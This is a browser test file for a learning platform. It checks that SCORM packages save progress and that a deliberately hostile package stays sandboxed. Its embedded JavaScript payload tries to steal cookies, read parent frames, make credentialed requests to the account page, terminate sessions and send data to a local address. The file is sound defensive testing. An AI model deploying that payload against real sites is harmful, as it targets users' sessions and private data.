"""Real packages in Chromium: they speak SCORM, are kept, and reach nothing of the platform."""

import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from threading import Event
from typing import Any
from uuid import UUID

import pytest
from flask import Flask, request, request_tearing_down
from playwright.sync_api import Browser, FrameLocator, Page, expect
from sqlalchemy import select

from courses.learning import operations as learning
from courses.learning.models import LessonDone
from courses.packages import operations
from courses.packages.models import PackageRecord
from lms.db import db, transaction
from tests.browser.pages import PATIENCE, Tab
from tests.browser.site import PASSWORD, Site
from tests.packages.building import scorm_12, scorm_2004

pytestmark = pytest.mark.parametrize("database_kind", ["sqlite"], indirect=True)

# What a package made to do harm tries, each with what it got.
HOSTILE = """<!doctype html><title>x</title><p id="said">…</p><button id="half"></button><script>
const home = new URLSearchParams(location.search).get('home');
const tries = {
  cookie: () => document.cookie,
  parent: () => window.top.document.cookie,
  embedder: () => window.parent.parent.document.body.innerText,
  storage: () => window.top.localStorage.length,
  navigate: () => { window.top.location = home + '/account'; return 'went'; },
  open: () => String(window.open(home + '/account')),
  read: () => fetch(home + '/account', { credentials: 'include' }).then((r) => r.text()),
  write: () => fetch(home + '/account/sessions/others', { method: 'POST', mode: 'no-cors', credentials: 'include' }).then((r) => r.type),
  request: () => new Promise((done, no) => { const r = new XMLHttpRequest(); r.open('GET', home + '/account'); r.withCredentials = true;
    r.onload = () => done(r.responseText); r.onerror = () => no(Error('refused')); r.send(); }),
  away: () => fetch('http://127.0.0.1:9/?told=1', { mode: 'no-cors' }).then(() => 'sent'),
  picture: () => new Promise((done, no) => { const i = new Image(); i.onload = () => done('sent'); i.onerror = () => no(Error('refused')); i.src = home + '/static/mark.svg'; }),
  frame: () => new Promise((done, no) => { const f = document.createElement('iframe'); f.onload = () => { try { done(f.contentDocument.body.innerText || 'empty'); } catch (e) { no(e); } };
    f.src = home + '/account'; document.body.append(f); }),
  worker: () => navigator.serviceWorker.register('js/play.js').then(() => 'registered'),
  routes: () => fetch('/account').then((r) => { if (r.status !== 200) throw Error('status ' + r.status); return r.text(); }),
};
(async () => {
  const got = {};
  for (const [name, act] of Object.entries(tries)) {
    try { got[name] = 'GOT ' + await act(); } catch (error) { got[name] = 'no'; }
  }
  document.getElementById('said').textContent = JSON.stringify(got);
})();
</script>"""


def enrolled(site: Site, person: UUID, archive: bytes) -> str:
    """The page of the first part of a package that is published and begun by this person."""
    now = datetime.now(UTC)
    with site.database():
        package = operations.bring(
            io.BytesIO(archive), site.federation_id, by=None, now=now, audience="agent", language="es", minutes=20
        )
        with transaction():
            edition = learning.open_edition(
                site.federation_id, package.version_id, "Otoño", begins_on=now.date(), ends_on=now.date() + timedelta(days=9),
                seats=9, by=None, now=now,
            )  # fmt: skip
            enrolment = learning.enrol(person, edition.id, federation_id=site.federation_id, now=now)
    return f"/learn/{enrolment.id}/paquete/parte-1"


def inside(page: Page) -> FrameLocator:
    """The package: a frame in the frame."""
    return page.frame_locator("#package").frame_locator("#content")


def says(page: Page, words: str) -> None:
    expect(inside(page).locator("#said")).to_have_text(words, timeout=PATIENCE)


def state(page: Page, words: str) -> None:
    expect(page.locator("#package-state")).to_contain_text(words, timeout=PATIENCE)


def records(site: Site) -> list[tuple[Any, ...]]:
    with site.database():
        found = db.session.scalars(select(PackageRecord).order_by(PackageRecord.updated_at)).all()
        return [(one.completion, one.success, one.score, one.seconds + one.session_seconds) for one in found]


def test_packages_of_both_standards_speak_and_one_made_to_do_harm_reaches_nothing(
    make_site: Callable[..., Site], phone: Callable[..., Tab], chromium: Browser
) -> None:
    site = make_site(courses=False)
    person = site.add("trainee", "Julia Ferrer", "agent")
    own = phone(site)
    own.sign_in("trainee@demo.test", PASSWORD)
    _speaks_1_2(site, own, enrolled(site, person, scorm_12()))
    _speaks_2004(site, own, enrolled(site, person, scorm_2004()))
    with site.database():
        assert len(db.session.scalars(select(LessonDone)).all()) == 2
    home = site.url.replace(":", "%3A").replace("/", "%2F")
    _reaches_nothing(
        site,
        own,
        enrolled(
            site,
            person,
            scorm_12(
                HOSTILE.replace("new URLSearchParams(location.search).get('home')", f"decodeURIComponent('{home}')")
            ),
        ),
    )


def _speaks_1_2(site: Site, own: Tab, lesson: str) -> None:
    own.open(lesson)
    own.follow("Ir a la actividad")
    own.sees("Todavía no la has abierto", "no ve tu nombre")
    own.press("Abrir")
    says(own.page, "true ninguna nada Participante 70")
    expect(inside(own.page).locator("h1")).to_have_css("color", "rgb(1, 2, 3)")
    inside(own.page).locator("#half").tap()
    says(own.page, "guardado true")
    state(own.page, "Guardado.")
    assert records(site)[0][:3] == ("incomplete", "unknown", None)
    own.follow("Volver a la lección")
    own.follow("Ir a la actividad")
    own.sees("Empezada")
    own.press("Seguir")
    says(own.page, "true página 3 a=1;ñ Participante 70")
    first = own.page.url
    newer = own.another()
    newer.open(lesson + "/package")
    newer.press("Seguir")
    says(newer.page, "true página 3 a=1;ñ Participante 70")
    inside(own.page).locator("#half").tap()  # the older window
    says(own.page, "guardado false")
    state(own.page, "otra ventana")
    inside(newer.page).locator("#whole").tap()
    says(newer.page, "hecho true")
    state(newer.page, "cuenta como hecha")
    assert records(site)[0][:3] == ("completed", "passed", 8000)
    newer.page.close()
    own.complaints.clear()  # the browser's, about the answer to the older window
    own.open(first)  # leads back to the button
    own.sees("Superada", "80 %")


def _speaks_2004(site: Site, own: Tab, lesson: str) -> None:
    own.open(lesson + "/package")
    own.press("Abrir")
    says(own.page, "true ninguna nada clave")
    inside(own.page).locator("#half").tap()
    says(own.page, "guardado true")
    own.follow("Ver cómo voy")
    own.press("Seguir")
    says(own.page, "true pantalla 2 b=2 clave")
    inside(own.page).locator("#quiet").tap()
    says(own.page, "callado")
    # It has not said that this is to be kept, and is left: the frame says so on its way out.
    arrived = Event()

    def note(_app: Flask, **_more: Any) -> None:
        if request.endpoint == "packages.save":
            arrived.set()

    with request_tearing_down.connected_to(note, site.app):
        own.follow("Ver cómo voy")
        assert arrived.wait(15)
    own.press("Seguir")
    says(own.page, "true pantalla 4 b=2 clave")
    inside(own.page).locator("#whole").tap()
    says(own.page, "hecho true")
    state(own.page, "cuenta como hecha")
    assert records(site)[1][:3] == ("completed", "passed", 9000)
    assert records(site)[1][3] >= 1


def _reaches_nothing(site: Site, own: Tab, lesson: str) -> None:
    own.open(lesson + "/package")
    own.page.locator("main").get_by_role("button", name="Abrir").tap()
    said = inside(own.page).locator("#said")
    expect(said).to_contain_text('"routes"', timeout=PATIENCE)
    got = said.evaluate("e => JSON.parse(e.textContent)")
    harmless = {"cookie": "GOT ", "open": "GOT null"}
    assert {name: value for name, value in got.items() if value != "no"} == harmless
    assert own.page.url.startswith(site.url)
    own.complaints.clear()  # what was refused to it
    own.open("/account")
    own.sees("Julia Ferrer")  # still signed in: nothing was sent in her name
